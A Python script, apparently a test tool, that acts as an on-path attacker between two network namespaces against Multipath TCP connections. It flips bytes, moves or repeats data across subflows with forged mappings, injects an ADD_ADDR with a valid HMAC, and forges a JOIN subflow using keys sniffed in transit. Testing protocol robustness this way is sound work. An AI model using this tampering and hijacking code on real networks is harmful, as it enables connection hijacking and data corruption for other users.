"""Who owns the links of a Multipath TCP connection and knows its options: a TUN device in each router's
namespace, through which the router forwards; packets pass, are changed, kept back or invented.

mptcp_link.py ACTION NAMESPACE1 NAMESPACE2 [ADDRESS]
  pass       nothing is done
  flip       a byte of what the server first says on path 1 (its share) is another one
  carry-s2c  what the server says on path 2 goes to the client in segments of path 1's subflow, under its
             own data-sequence numbers: the same bytes, by the wrong path
  carry-c2s  the same with what the client says on path 2 after its first words
  copy-s2c   as carry-s2c, all bytes but the last, and on path 2 as well: they are there by path 1 first
  repeat     the server's first bytes on path 1 come twice, the second time as new bytes of the subflow
  add-addr   the client is told of one more ADDRESS of the server, with the right HMAC
  join       a third subflow from ADDRESS joins at the server, with the keys that crossed path 1
"""

import ctypes
import fcntl
import hashlib
import hmac
import os
import select
import socket
import struct
import sys
import time

import common

TUNSETIFF, IFF_TUN, IFF_NO_PI = 0x400454CA, 1, 0x1000
CAPABLE, JOIN, DSS, ADD_ADDR = 0, 1, 2, 3
TIMESTAMP, MPTCP = 8, 30


def tun(namespace):
    with open(f"/run/netns/{namespace}", "rb") as ns:
        if ctypes.CDLL(None, use_errno=True).setns(ns.fileno(), 0) != 0:
            raise OSError(ctypes.get_errno(), "setns")
    fd = os.open("/dev/net/tun", os.O_RDWR | os.O_NONBLOCK)
    fcntl.ioctl(fd, TUNSETIFF, struct.pack("16sH22x", b"tapped", IFF_TUN | IFF_NO_PI))
    return fd


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Segment:
    """One TCP segment over IPv4, taken apart."""

    def __init__(self, packet):
        head = (packet[0] & 15) * 4
        self.source, self.target = packet[12:16], packet[16:20]
        (self.sport, self.dport, self.seq, self.ack, offset, self.flags, self.window, _,
         _) = struct.unpack(">HHIIBBHHH", packet[head:head + 20])
        self.options = list(self._options(packet[head + 20:head + (offset >> 4) * 4]))
        self.data = packet[head + (offset >> 4) * 4:struct.unpack(">H", packet[2:4])[0]]

    @staticmethod
    def _options(raw):
        while raw and raw[0] != 0:
            if raw[0] == 1:
                raw = raw[1:]
                continue
            yield raw[:raw[1]]
            raw = raw[raw[1]:]

    def mptcp(self, subtype):
        return next((o for o in self.options if o[0] == MPTCP and o[2] >> 4 == subtype), None)

    def packet(self):
        options = b"".join(self.options)
        options += b"\1" * (-len(options) % 4)
        tcp = struct.pack(">HHIIBBHHH", self.sport, self.dport, self.seq & 0xFFFFFFFF, self.ack,
                          (20 + len(options)) // 4 << 4, self.flags, self.window, 0, 0)
        tcp += options + self.data
        pseudo = self.source + self.target + struct.pack(">BBH", 0, socket.IPPROTO_TCP, len(tcp))
        tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, socket.IPPROTO_TCP, 0,
                         self.source, self.target)
        return ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:] + tcp


def mapping(segment):
    """(data sequence number, bytes, where in the option) of a DSS with eight bytes of it, or None."""
    option = segment.mptcp(DSS)
    if option is None or not option[3] & 0x04 or not option[3] & 0x08:
        return None
    at = 4 + ((8 if option[3] & 0x02 else 4) if option[3] & 0x01 else 0)
    return struct.unpack(">Q", option[at:at + 8])[0], struct.unpack(">H", option[at + 12:at + 14])[0], at


class Direction:
    """What is known of one direction of path 1's subflow."""

    def __init__(self):
        self.isn = self.next = self.last = self.first_data = None

    def note(self, segment):
        if segment.flags & 2:
            self.isn = segment.seq
        self.last = segment
        end = segment.seq + len(segment.data) + bool(segment.flags & 3)
        self.next = end if self.next is None or (end - self.next) & 0xFFFFFFFF < 1 << 31 else self.next
        if segment.data and self.first_data is None:
            self.first_data = segment

    def forge(self, data_seq, data):
        """A segment that continues this subflow and maps its bytes to data_seq."""
        new = Segment(self.last.packet())
        new.seq, new.flags, new.data = self.next, 0x18, data
        dss = struct.pack(">BBBBQIH", MPTCP, 18, DSS << 4, 0x0C, data_seq,
                          (self.next - self.isn) & 0xFFFFFFFF, len(data))
        new.options = [o for o in new.options if o[0] == TIMESTAMP] + [dss]
        self.next += len(data)
        return new.packet()


class Attack:
    def __init__(self, action, links, address):
        self.action, self.links, self.address = action, links, address
        self.ways = {"c2s": Direction(), "s2c": Direction()}
        self.port, self.keys, self.done, self.seen = None, {}, False, 0

    def pass_on(self, path, packet):
        try:
            os.write(self.links[path], packet)
        except OSError:
            pass

    def keep(self, way, segment):
        """Path 2's bytes, sent on path 1 instead."""
        found = mapping(segment)
        if self.action not in (f"carry-{way}", f"copy-{way}") or not segment.data or found is None:
            return False
        self.seen += 1
        if way == "c2s" and self.seen == 1:
            return False  # HELLO; then CONFIRM
        copy = self.action.startswith("copy")
        self.pass_on(0, self.ways[way].forge(found[0], segment.data[:-1] if copy else segment.data))
        if copy:  # the last byte by itself: nothing is read before path 2's own have come as well
            self.pass_in_two(segment)
        common.say(event="carried", way=way, bytes=len(segment.data))
        return True

    def pass_in_two(self, segment):
        """The same bytes under the same mapping, in two segments of path 2."""
        first, last = Segment(segment.packet()), Segment(segment.packet())
        first.data, last.data = segment.data[:-1], segment.data[-1:]
        last.seq += len(first.data)
        self.pass_on(1, first.packet())
        time.sleep(0.05)  # path 1 is the faster one
        self.pass_on(1, last.packet())

    def note_keys(self, way, segment):
        option = segment.mptcp(CAPABLE)
        if option is not None and len(option) >= 12:
            self.keys[way] = option[4:12]

    def announce(self, segment):
        """ADD_ADDR from the server, once both keys have crossed this path."""
        address = socket.inet_aton(self.address)
        code = hmac.new(self.keys["s2c"] + self.keys["c2s"], b"\x09" + address + b"\0\0",
                        hashlib.sha256).digest()[-8:]
        new = Segment(segment.packet())
        new.data = b""
        new.options = [o for o in new.options if o[0] == TIMESTAMP]
        new.options.append(struct.pack(">BBBB4s8s", MPTCP, 16, ADD_ADDR << 4, 9, address, code))
        self.pass_on(0, new.packet())
        common.say(event="announced")

    def join_begin(self, segment):
        """SYN of one more subflow, in place of the client."""
        new = Segment(segment.packet())
        new.source, new.target = socket.inet_aton(self.address), segment.source
        new.sport, new.dport, new.seq, new.ack, new.flags, new.data = 4444, segment.sport, 1000, 0, 2, b""
        token = hashlib.sha256(self.keys["s2c"]).digest()[:4]
        new.options = [bytes([MPTCP, 12, JOIN << 4, 9]) + token + b"NNNN"]
        self.pass_on(0, new.packet())

    def join_end(self, segment):
        """ACK to its SYN and ACK."""
        nonces = b"NNNN" + segment.mptcp(JOIN)[12:16]
        code = hmac.new(self.keys["c2s"] + self.keys["s2c"], nonces, hashlib.sha256).digest()[:20]
        new = Segment(segment.packet())
        new.source, new.target = segment.target, segment.source
        new.sport, new.dport, new.seq, new.ack = segment.dport, segment.sport, 1001, segment.seq + 1
        new.flags, new.options = 0x10, [bytes([MPTCP, 24, JOIN << 4, 0]) + code]
        self.pass_on(0, new.packet())
        common.say(event="joined")

    def path1(self, way, segment, packet):
        direction = self.ways[way]
        direction.note(segment)
        self.note_keys(way, segment)
        first = way == "s2c" and segment.data and not self.done
        if first and self.action == "flip":
            segment.data = segment.data[:-1] + bytes([segment.data[-1] ^ 1])
            packet, self.done = segment.packet(), True
            common.say(event="flipped")
        self.pass_on(0, packet)
        if first and self.action == "repeat":
            found = mapping(segment)
            self.pass_on(0, direction.forge(found[0], segment.data))
            self.done = True
            common.say(event="repeated", bytes=len(segment.data))
        if first and self.action == "join":
            self.join_begin(segment)
            self.done = True
        if first and self.action == "add-addr":
            self.announce(segment)
            self.done = True

    def handle(self, path, packet):
        if packet[0] >> 4 != 4 or packet[9] != socket.IPPROTO_TCP:
            self.pass_on(path, packet)
            return
        segment = Segment(packet)
        if self.port is None and segment.flags & 0x12 == 2:
            self.port = segment.dport
        way = "c2s" if segment.dport == self.port else "s2c"
        if self.address and segment.target == socket.inet_aton(self.address):
            if segment.flags & 0x12 == 0x12:
                self.join_end(segment)
            return
        if path == 0:
            self.path1(way, segment, packet)
        elif not self.keep(way, segment):
            self.pass_on(path, packet)

    def run(self):
        while True:
            for fd in select.select(self.links, [], [])[0]:
                self.handle(self.links.index(fd), os.read(fd, 65536))


def main(action, namespace1, namespace2, address=None):
    links = [tun(namespace1), tun(namespace2)]
    common.say(event="ready")
    Attack(action, links, address).run()


if __name__ == "__main__":
    main(*sys.argv[1:])
